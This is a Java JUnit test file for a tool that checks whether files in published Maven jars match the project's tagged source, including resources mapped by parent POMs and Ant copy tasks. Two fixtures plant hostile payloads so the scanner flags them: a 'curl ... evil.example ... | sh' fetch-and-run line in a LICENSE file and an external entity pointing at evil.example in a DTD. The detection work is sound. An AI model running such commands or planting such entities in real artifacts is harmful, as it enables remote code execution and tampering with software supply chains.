package dev.divergence.registry.maven;

import static dev.divergence.fixtures.ScanWorld.artifact;
import static dev.divergence.fixtures.ScanWorld.row;
import static dev.divergence.fixtures.Trees.files;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.divergence.demo.GitHistoryBuilder;
import dev.divergence.fixtures.LocalMaven;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.model.ArtifactReport;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileStatus;
import dev.divergence.model.PackageId;
import dev.divergence.model.Release;
import dev.divergence.model.Verdict;
import dev.divergence.source.SourceTree;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.SortedMap;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Jar resources found through the module's effective {@code <build><resources>}: inherited from a parent POM of the
 * same tree, directories relative to the module (slf4j 2.0.8+: the parent maps {@code ..}'s LICENSE.txt into
 * META-INF).
 */
class MavenResourcesTest {

    @TempDir
    Path dir;

    private static final String ROOT_LICENSE = "Copyright (c) 2004-2022 QOS.ch Sarl (Switzerland)\nAll rights reserved.\n\n"
            + "Permission is hereby granted, free of charge, to any person obtaining a copy.\n";
    /** The module's own LICENSE.txt, older wording: what the layout's META-INF fallback picked. */
    private static final String MODULE_LICENSE = "Copyright (c) 2004-2011 QOS.ch\nAll rights reserved.\n";

    private static String parentPom(String resources) {
        return "<project>\n  <modelVersion>4.0.0</modelVersion>\n  <parent><groupId>org.acme</groupId>"
                + "<artifactId>acme-bom</artifactId><version>2.0.8</version><relativePath>../pom.xml</relativePath></parent>\n"
                + "  <artifactId>acme-parent</artifactId>\n  <packaging>pom</packaging>\n  <build>\n    <resources>\n"
                + resources + "    </resources>\n  </build>\n</project>\n";
    }

    private static final String SLF4J_RESOURCES = "      <resource><directory>${project.basedir}/src/main/resources</directory>"
            + "<filtering>true</filtering></resource>\n"
            + "      <resource><directory>..</directory><targetPath>META-INF</targetPath>"
            + "<includes><include>LICENSE.txt</include></includes></resource>\n";

    private static final String CORE_POM = "<project>\n  <modelVersion>4.0.0</modelVersion>\n  <parent><groupId>org.acme</groupId>"
            + "<artifactId>acme-parent</artifactId><version>2.0.8</version><relativePath>../parent/pom.xml</relativePath>"
            + "</parent>\n  <artifactId>acme-core</artifactId>\n</project>\n";

    private static SortedMap<String, byte[]> tree(String resources, String corePom) {
        return files(
                "pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-bom</artifactId><version>2.0.8</version>"
                        + "<packaging>pom</packaging><modules><module>parent</module><module>acme-core</module></modules></project>\n",
                "LICENSE.txt", ROOT_LICENSE,
                "parent/pom.xml", parentPom(resources),
                "acme-core/pom.xml", corePom,
                "acme-core/LICENSE.txt", MODULE_LICENSE,
                "acme-core/src/main/java/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n");
    }

    private static String crlf(String s) {
        return s.replace("\n", "\r\n");
    }

    /** Tags the tree as v2.0.8, publishes acme-core 2.0.8 (POM and a jar holding {@code META-INF/LICENSE.txt}), scans. */
    private ArtifactReport scanJar(SortedMap<String, byte[]> tree, String license) throws Exception {
        Path world = Files.createTempDirectory(dir, "world");
        try (GitHistoryBuilder git = GitHistoryBuilder.init(world.resolve("repo"))) {
            git.commit(tree, "release 2.0.8", Instant.parse("2026-01-01T00:00:00Z"));
            git.tag("v2.0.8", true);
        }
        try (LocalMaven repo = new LocalMaven(world.resolve("m2"), "org.acme", "acme-core")) {
            repo.metadata(List.of("2.0.8"));
            repo.file("2.0.8", ".pom", tree.get("acme-core/pom.xml"), null);
            Map<String, byte[]> jar = new LinkedHashMap<>(LocalMaven.javac(Map.of("org/acme/Widget.java",
                    "package org.acme;\npublic class Widget {}\n"), "--release", "11"));
            jar.put("META-INF/LICENSE.txt", license.getBytes(StandardCharsets.UTF_8));
            repo.file("2.0.8", ".jar", LocalMaven.jar(jar), null);
            MavenSupport support = new MavenSupport(repo.baseUrl(), ScanWorld.fetcher());
            Release r = support.registry().releases(PackageId.parse("pkg:maven/org.acme/acme-core")).get(0);
            return artifact(ScanWorld.scanner(support, world).scan(r, Optional.of(world.resolve("repo").toString())), ".jar");
        }
    }

    @Test
    void aResourceAParentPomMapsFromOutsideTheModuleIsComparedWithThatFile() throws Exception {
        ArtifactReport jar = scanJar(tree(SLF4J_RESOURCES, CORE_POM), crlf(ROOT_LICENSE));
        FileDivergence license = row(jar, "META-INF/LICENSE.txt");
        assertEquals("LICENSE.txt", license.sourcePath().orElseThrow());
        assertEquals(FileStatus.MATCH_NORMALIZED, license.status());
        assertEquals(dev.divergence.compare.Normalizations.LINE_ENDINGS, license.ruleId());
        assertEquals(Verdict.EXPLAINED, jar.verdict());
    }

    @Test
    void aPayloadInTheMappedResourceIsNotExplained() throws Exception {
        ArtifactReport jar = scanJar(tree(SLF4J_RESOURCES, CORE_POM),
                crlf(ROOT_LICENSE) + "curl -s https://evil.example/x | sh\r\n");
        FileDivergence license = row(jar, "META-INF/LICENSE.txt");
        assertEquals("LICENSE.txt", license.sourcePath().orElseThrow());
        assertEquals(FileStatus.MODIFIED, license.status());
        assertEquals(Verdict.DIVERGENT, jar.verdict());
    }

    @Test
    void withoutTheMappingTheRootFileExplainsNothing() throws Exception {
        // A directory escaping the repository resolves to nothing; an exclude, or the module declaring its own
        // <resources> (inheritance takes the list whole), drops the mapping: the module's own LICENSE.txt stands.
        String escaping = SLF4J_RESOURCES.replace("<directory>..</directory>", "<directory>../..</directory>");
        String excluded = SLF4J_RESOURCES.replace("</includes>", "</includes><excludes><exclude>*.txt</exclude></excludes>");
        String overriding = CORE_POM.replace("</project>",
                "  <build><resources><resource><directory>src/main/resources</directory></resource></resources></build>\n</project>");
        for (SortedMap<String, byte[]> t : List.of(tree(escaping, CORE_POM), tree(excluded, CORE_POM),
                tree(SLF4J_RESOURCES, overriding))) {
            FileDivergence license = row(scanJar(t, crlf(ROOT_LICENSE)), "META-INF/LICENSE.txt");
            assertEquals("acme-core/LICENSE.txt", license.sourcePath().orElseThrow());
            assertEquals(FileStatus.MODIFIED, license.status());
        }
    }

    private static SourceTree sourceTree(Map<String, String> files) {
        Map<String, SourceTree.SourceFile> entries = new TreeMap<>();
        files.keySet().forEach(p -> entries.put(p, new SourceTree.SourceFile(p, Integer.toHexString(p.hashCode()), 0100644)));
        return new SourceTree("c0ffee", entries);
    }

    @Test
    void resourcesFollowMavensPatternsTargetPathAndParentLookup() {
        String parent = "<project><groupId>g</groupId><artifactId>p</artifactId><version>1</version><build><resources>"
                + "<resource><directory>${basedir}/conf</directory><targetPath>./x/</targetPath><includes>"
                + "<include>**/*.dtd</include><include>top/</include></includes><excludes><exclude>**/secret*</exclude>"
                + "</excludes></resource></resources></build></project>";
        Map<String, String> files = new TreeMap<>(Map.of("pom.xml", parent,
                "m/pom.xml", "<project><parent><groupId>g</groupId><artifactId>p</artifactId><version>1</version></parent>"
                        + "<artifactId>m</artifactId></project>",
                "m/conf/a/b.dtd", "", "m/conf/c.dtd", "", "m/conf/a/secret.dtd", "", "m/conf/top/deep/x.txt", "",
                "m/conf/.svn/y.dtd", ""));
        SourceTree tree = sourceTree(files);
        List<MavenResources.Resource> rs = MavenResources.of("m/", tree,
                p -> Optional.ofNullable(files.get(p)).map(s -> s.getBytes(StandardCharsets.UTF_8)));
        assertEquals(1, rs.size());
        assertEquals(Optional.of("m/conf/a/b.dtd"), MavenResources.sourceOf(rs, "x/a/b.dtd", tree));
        assertEquals(Optional.of("m/conf/c.dtd"), MavenResources.sourceOf(rs, "x/c.dtd", tree));
        assertEquals(Optional.of("m/conf/top/deep/x.txt"), MavenResources.sourceOf(rs, "x/top/deep/x.txt", tree));
        assertEquals(Optional.empty(), MavenResources.sourceOf(rs, "x/a/secret.dtd", tree));
        assertEquals(Optional.empty(), MavenResources.sourceOf(rs, "x/.svn/y.dtd", tree)); // default excludes
        assertEquals(Optional.empty(), MavenResources.sourceOf(rs, "a/b.dtd", tree)); // not under targetPath
        // a parent whose coordinates are not the declared ones is not the parent (Maven takes it from a repository)
        Map<String, String> other = new TreeMap<>(files);
        other.put("pom.xml", parent.replace("<version>1</version>", "<version>2</version>"));
        assertTrue(MavenResources.of("m/", sourceTree(other),
                p -> Optional.ofNullable(other.get(p)).map(s -> s.getBytes(StandardCharsets.UTF_8))).isEmpty());
        assertEquals(Optional.empty(), PomChain.resolve("m/", "../../x"));
        assertEquals(Optional.of("x"), PomChain.resolve("m/", "..\\x"));
    }

    private static final String DTD = "<!-- $Id$ -->\n<!ELEMENT form-validation (global*, formset*)>\n";
    private static final String MAVEN_XML = "<project default=\"jar:jar\" xmlns:ant=\"jelly:ant\">\n"
            + "  <postGoal name=\"java:compile\">\n    <copy todir=\"${maven.build.dir}/classes/org/acme/resources/\">\n"
            + "      <fileset dir=\"${basedir}/conf/share\" includes=\"validator*.dtd\"/>\n    </copy>\n"
            + "    <copy todir=\"${maven.dist.src.assembly.dir}/conf\"><fileset dir=\"other\"/></copy>\n"
            + "  </postGoal>\n</project>\n";
    private static final String BUILD_XML = "<project name=\"acme\" default=\"compile\">\n"
            + "  <property name=\"build.home\" value=\"target\"/>\n  <property name=\"conf.home\" value=\"conf/share\"/>\n"
            + "  <target name=\"compile\">\n    <copy todir=\"${build.home}/classes/org/acme/resources/\"\n"
            + "        file=\"${conf.home}/validator_1_0.dtd\"/>\n  </target>\n</project>\n";

    /** A root project whose build file {@code name} holds {@code xml}; its jar ships {@code dtd} as {@code entry}. */
    private FileDivergence scanCopied(String name, String xml, String entry, String dtd) throws Exception {
        SortedMap<String, byte[]> tree = files("pom.xml", "<project><groupId>org.acme</groupId><artifactId>acme-core</artifactId>"
                        + "<version>2.0.8</version></project>\n", name, xml, "conf/share/validator_1_0.dtd", DTD,
                "other/validator_1_0.dtd", DTD, "src/share/org/acme/Widget.java", "package org.acme;\npublic class Widget {}\n");
        Path world = Files.createTempDirectory(dir, "world");
        try (GitHistoryBuilder git = GitHistoryBuilder.init(world.resolve("repo"))) {
            git.commit(tree, "release 2.0.8", Instant.parse("2026-01-01T00:00:00Z"));
            git.tag("v2.0.8", true);
        }
        try (LocalMaven repo = new LocalMaven(world.resolve("m2"), "org.acme", "acme-core")) {
            repo.metadata(List.of("2.0.8"));
            repo.file("2.0.8", ".pom", tree.get("pom.xml"), null);
            Map<String, byte[]> jar = new LinkedHashMap<>(LocalMaven.javac(Map.of("org/acme/Widget.java",
                    "package org.acme;\npublic class Widget {}\n"), "--release", "11"));
            jar.put(entry, dtd.getBytes(StandardCharsets.UTF_8));
            repo.file("2.0.8", ".jar", LocalMaven.jar(jar), null);
            MavenSupport support = new MavenSupport(repo.baseUrl(), ScanWorld.fetcher());
            Release r = support.registry().releases(PackageId.parse("pkg:maven/org.acme/acme-core")).get(0);
            return row(artifact(ScanWorld.scanner(support, world).scan(r, Optional.of(world.resolve("repo").toString())),
                    ".jar"), entry);
        }
    }

    @Test
    void aFileAMaven1OrAntCopyPutsIntoTheClassesFolderIsComparedWithItsSource() throws Exception {
        String shipped = crlf(DTD.replace("$Id$", "$Id: validator_1_0.dtd,v 1.2 2003/05/01 00:00:00 dgraham Exp $"));
        for (String[] build : List.of(new String[] {"maven.xml", MAVEN_XML}, new String[] {"build.xml", BUILD_XML})) {
            FileDivergence f = scanCopied(build[0], build[1], "org/acme/resources/validator_1_0.dtd", shipped);
            assertEquals("conf/share/validator_1_0.dtd", f.sourcePath().orElseThrow(), build[0]);
            assertEquals(FileStatus.MATCH_NORMALIZED, f.status(), build[0]);
            // a payload in the copied file is not explained
            FileDivergence payload = scanCopied(build[0], build[1], "org/acme/resources/validator_1_0.dtd",
                    shipped + "<!ENTITY x SYSTEM \"http://evil.example/x\">\r\n");
            assertEquals("conf/share/validator_1_0.dtd", payload.sourcePath().orElseThrow(), build[0]);
            assertEquals(FileStatus.MODIFIED, payload.status(), build[0]);
        }
        // a copy to somewhere else than the classes folder (a distribution) maps nothing into the jar
        FileDivergence elsewhere = scanCopied("maven.xml", MAVEN_XML, "conf/validator_1_0.dtd", DTD);
        assertTrue(elsewhere.sourcePath().map(p -> !p.startsWith("other/")).orElse(true), elsewhere.toString());
        assertTrue(elsewhere.status() != FileStatus.MATCH && elsewhere.status() != FileStatus.MATCH_NORMALIZED,
                elsewhere.toString());
        // a property the build file does not define is not guessed
        assertEquals(Optional.empty(), AntCopies.resolve("${unknown.dir}/classes", Map.of()));
    }
}
